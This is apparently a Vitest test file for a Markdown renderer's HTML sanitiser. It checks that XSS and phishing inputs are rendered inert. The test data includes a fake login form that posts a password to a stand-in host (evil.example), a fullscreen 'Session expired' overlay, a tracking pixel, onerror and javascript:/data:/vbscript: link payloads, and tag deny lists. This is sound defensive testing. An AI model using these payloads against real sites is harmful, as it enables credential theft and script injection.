import { describe, expect, it } from "vitest";
import { imageAllowed, PURIFY_CONFIG, renderMarkdown, safeHref } from "./markdown";

// Each payload must come out inert: no live tag of its kind, no attribute that styles or scripts.
function inert(html: string) {
  expect(html).not.toMatch(/<(style|form|input|button|iframe|object|embed|script|textarea|select|svg|link|meta)\b/i);
  // attributes inside real tags (escaped text may show them, harmlessly)
  expect(html).not.toMatch(/<[a-z][^>]*\sstyle\s*=/i);
  expect(html).not.toMatch(/<[a-z][^>]*\son[a-z]+\s*=/i);
  expect(html).not.toMatch(/href="\s*(javascript|data|vbscript):/i);
}

describe("renderMarkdown", () => {
  it("shows a style tag as text", () => {
    const html = renderMarkdown("<style>body{display:none}</style>\n\nhello");
    inert(html);
    expect(html).toContain("&lt;style&gt;");
  });

  it("shows a fixed overlay div as text", () => {
    const html = renderMarkdown('<div style="position:fixed;inset:0;z-index:9999;background:white">Session expired</div>');
    inert(html);
    expect(html).not.toMatch(/<div/i);
    expect(html).toContain("&lt;div style=");
  });

  it("shows a form with a password field as text", () => {
    const html = renderMarkdown(
      'Session expired\n\n<form action="https://evil.example/steal" method="post"><input type="password" name="p"><button>Sign in</button></form>',
    );
    inert(html);
    expect(html).toContain("&lt;form");
  });

  it("turns an external image into a link and keeps own and data images", () => {
    const html = renderMarkdown("![tracker](https://evil.example/pixel.png)");
    inert(html);
    expect(html).not.toMatch(/<img/i);
    expect(html).toContain('<a href="https://evil.example/pixel.png" rel="noopener noreferrer nofollow"');
    expect(renderMarkdown("![chart](/api/v1/runs/1/artifacts/a.png)")).toContain('<img src="/api/v1/runs/1/artifacts/a.png"');
    expect(renderMarkdown("![pic](https://img.example/a.png)", { imageHosts: ["img.example"] })).toContain("<img ");
    expect(renderMarkdown('<img src="https://evil.example/x.png" onerror="alert(1)">')).not.toMatch(/<img/i);
  });

  it("shows an iframe, object and embed as text", () => {
    const html = renderMarkdown('<iframe src="https://evil.example"></iframe>\n\n<object data="x"></object><embed src="y">');
    inert(html);
    expect(html).toContain("&lt;iframe");
  });

  it("drops javascript: and data: links, keeps their text", () => {
    for (const href of ["javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "data:text/html,<b>x</b>",
      "vbscript:x"]) {
      const html = renderMarkdown(`[click](${href.replace("\t", "%09")})`);
      inert(html);
      expect(html).toContain("click");
    }
    inert(renderMarkdown("[click](javascript&#58;alert(1))"));
    inert(renderMarkdown("<javascript:alert(1)>"));
  });

  it("gives links rel=noopener noreferrer", () => {
    const html = renderMarkdown("[docs](https://docs.example/a) and https://auto.example/b");
    expect(html.match(/rel="noopener noreferrer nofollow"/g)?.length).toBe(2);
  });

  it("renders task lists without inputs", () => {
    const html = renderMarkdown("- [x] done\n- [ ] todo");
    inert(html);
    expect(html).toContain("\u2611");
  });

  it("keeps ordinary Markdown", () => {
    const html = renderMarkdown("# Title\n\n**bold** `code`\n\n| a | b |\n|---|---|\n| 1 | 2 |");
    expect(html).toContain("<h1>Title</h1>");
    expect(html).toContain("<strong>bold</strong>");
    expect(html).toContain("<table>");
  });
});

describe("allow-lists", () => {
  it("safeHref", () => {
    expect(safeHref("https://a.example")).toBe("https://a.example");
    expect(safeHref("/projects/x")).toBe("/projects/x");
    expect(safeHref("#top")).toBe("#top");
    expect(safeHref(" javascript:alert(1)")).toBeNull();
    expect(safeHref("java\nscript:alert(1)")).toBeNull();
  });

  it("imageAllowed", () => {
    expect(imageAllowed("//evil.example/x.png")).toBe(false);
    expect(imageAllowed("data:image/svg+xml;base64,PHN2Zz4=")).toBe(false);
    expect(imageAllowed("data:image/png;base64,iVBORw0KGgo=")).toBe(true);
  });

  it("DOMPurify config has no style, form or frame", () => {
    for (const tag of ["style", "form", "input", "button", "iframe", "object", "embed", "script", "svg", "div", "span"]) {
      expect(PURIFY_CONFIG.ALLOWED_TAGS).not.toContain(tag);
    }
    expect(PURIFY_CONFIG.ALLOWED_ATTR).not.toContain("style");
    expect(PURIFY_CONFIG.ALLOWED_ATTR).not.toContain("class");
  });
});
